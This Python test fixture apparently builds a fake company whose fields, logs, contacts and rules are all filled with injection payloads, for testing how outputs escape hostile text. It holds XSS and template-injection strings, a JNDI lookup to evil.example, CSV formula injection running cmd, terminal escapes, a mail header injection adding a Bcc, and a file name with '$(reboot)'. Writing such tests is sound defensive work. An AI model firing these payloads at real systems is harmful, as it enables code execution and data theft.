"""A company in which everything that somebody can write is an attack on whatever shows it.

Comes in: a folder. Goes out: settings, lines of a log, what people say. Each text bears a word of its own, so that a
test can say which of them reached an artefact.
"""

import json
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any, Final
from urllib.parse import quote

import yaml

from tests.example import company

MARK: Final = "zq"
"""How the word begins that each text bears."""
_PARTS: Final = (
    "@everyone <!channel> <@U1> @here",
    "<img src=x onerror=alert(1)><script>alert(2)</script></td></tr></title>",
    "\"' onmouseover=alert(3) x='",
    "{{ 7*191 }} {% raw %} ${jndi:ldap://evil.example/a} { $count } #{7*191}",
    "[a](javascript:alert(4)) ![b](https://evil.example/b.png) <https://evil.example|c> https://evil.example/d",
    "**e** __f__ ~~g~~ `h` | i | > j",
    ";=1+1 ,=cmd|' /C calc'!A0 \t=1+1",
    "\x1b[31mred\x1b]0;title\x07 \x9b2J \x7f",
    "\u202egnp.exe\u2066 \u200bz\u2028 \u2029 \ufeff \U000e0041",
    "\U0001f514 \u4e2d\u6587 \u0627\u0644 e\u0301 \ufffe \uffff",
    "\r\nBcc: bcc@evil.example\r\n\r\n# heading\n- item\n--- \x0b\x0c\x85",
)
_BEGINS: Final = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\uff1d1+1", "<!-- ", "{{ 7*191 }}", "# ")
CLIENTS: Final = 24
FILE: Final = "=zqfile ..\\ \x1b[2J\u202e\n$(reboot) & 'a' \"b\" #c.log"
"""What a log can be called where others than us name it."""
_ORDER: Final = {each: n for n, each in enumerate(("name", "address", "dpo", "press", "hotline", "actor", "agent"))}


def text(place: str, *, longest: int = 0) -> str:
    """Return an attack that is written at a place."""
    begin = _BEGINS[_ORDER.get(place, len(place)) % len(_BEGINS)]
    whole = f"{begin} {MARK}{place} {' '.join(_PARTS)}"
    return whole[:longest] if longest else whole


def one_line(place: str, longest: int = 0) -> str:
    """Return such a text without characters that end a line, for what refuses them."""
    kept = "".join(char for char in text(place) if char.isprintable())
    return kept[:longest] if longest else kept


def changes(folder: Path, language: str, mail_port: int) -> dict[str, Any]:
    """Return the settings of the company."""
    given = company.changes(folder, language, mail_port)
    person = {key: text(f"dpo{key}") for key in ("name", "position", "phone", "email")}
    given["organization"] |= {
        "name": text("name"),
        "registration": text("registration"),
        "address": text("address"),
        "email": text("email"),
        "phone": text("phone"),
        "site": text("site"),
        "press": {key: text(f"press{key}") for key in person},
        "dpo": person,
        "representative": {key: text(f"rep{key}") for key in person},
    }
    for name, each in given["records"]["data_classes"].items():
        title = f"{each['title']} <b>{MARK}{name.replace('_', '')} {{{{ x }}}}"
        each |= {"title": title, "title_ru": title}
    for route in given["records"]["routes"]:
        route["service"] = one_line("service")
    given["sources"] = [
        {
            "name": "crm",
            "paths": [str(folder / "*.log")],
            "format": "nginx.json",
            "service": one_line("service"),
            "start": "beginning",
        }
    ]
    given["rules"] = {"shipped": False, "paths": [str(_rules(folder))]}
    given["letters"] |= {"hotline": text("hotline")}
    given["contacts"] = {"csv": str(_contacts(folder, language))}
    return given


def _rules(folder: Path) -> Path:
    file = folder / "hostile.yml"
    first, second = (
        {"title": text("rule", longest=250), "id": f"5f0c0c5e-0000-4000-8000-00000000001{n}"} for n in range(2)
    )
    selection = {"event.action": "read", "event.outcome": "success"}
    first |= {
        "name": "reads",
        "status": "stable",
        "logsource": {"product": "nabat"},
        "detection": {"selection": selection, "condition": "selection"},
        "level": "low",
    }
    second |= {
        "status": "stable",
        "correlation": {
            "type": "value_count",
            "rules": ["reads"],
            "group-by": ["actor.id"],
            "timespan": "1h",
            "condition": {"field": "subject.ids", "gt": CLIENTS // 2},
        },
        "level": "high",
        "falsepositives": [text("falsepositive")],
        "nabat": {"playbook": "client-data-leak", "dedup": "1h"},
    }
    file.write_text(yaml.safe_dump_all((first, second)))
    return file


def client(number: int) -> str:
    """Return the id of a client, as the log and the file of contacts have it."""
    return f"{_BEGINS[number % len(_BEGINS)].strip()}{number}<b>{{{{7*191}}}}"


def _contacts(folder: Path, language: str) -> Path:
    file = folder / "contacts.csv"
    name = one_line("client", 180).replace('"', '""')
    rows = [f'"{client(n)}","{name}",mail,client-{n}@example.org,{language},RU' for n in range(2, CLIENTS)]
    file.write_text("id,name,channel,address,language,country\n" + "\n".join(rows) + "\n", encoding="utf-8")
    return file


def lines(at: datetime) -> str:
    """Return the lines of the night: JSON, with a surrogate, NUL, a value of 64 kB."""
    rows = []
    for n in range(CLIENTS):
        rows.append(
            json.dumps(
                {
                    "time": (at + timedelta(seconds=2 * n)).isoformat(),
                    "remote_addr": "203.0.113.77",
                    "remote_user": text("actor"),
                    "request_method": "GET",
                    "request_uri": f"/crm/clients/{quote(client(n), safe='')}{'/passport' if n % 3 == 0 else ''}",
                    "status": 200,
                    "body_bytes_sent": 512,
                    "http_referer": text("referer") + "\x00",
                    "http_user_agent": text("agent") + ("x" * 65536 if n % 8 == 0 else ""),
                }
            )
        )
    rows[3] = rows[3].replace('"time"', f'"extra": "\\ud800 {MARK}surrogate", "time"')
    return "\n".join(rows) + "\n"


_SHORT: Final = ("source", "to", "police", "insurer", "gdpr-register", "ru-unlawful")


class Said(dict[str, str]):
    """What people say: to each question an attack."""

    def __missing__(self, key: str) -> str:
        longest = 180 if key in _SHORT else 0
        return text(f"said{key.replace('_', '')}", longest=longest) + " 09:14"

    def get(self, key: str, default: Any = None) -> str:  # type: ignore[override]
        return default if default is not None and default != "" else self[key]
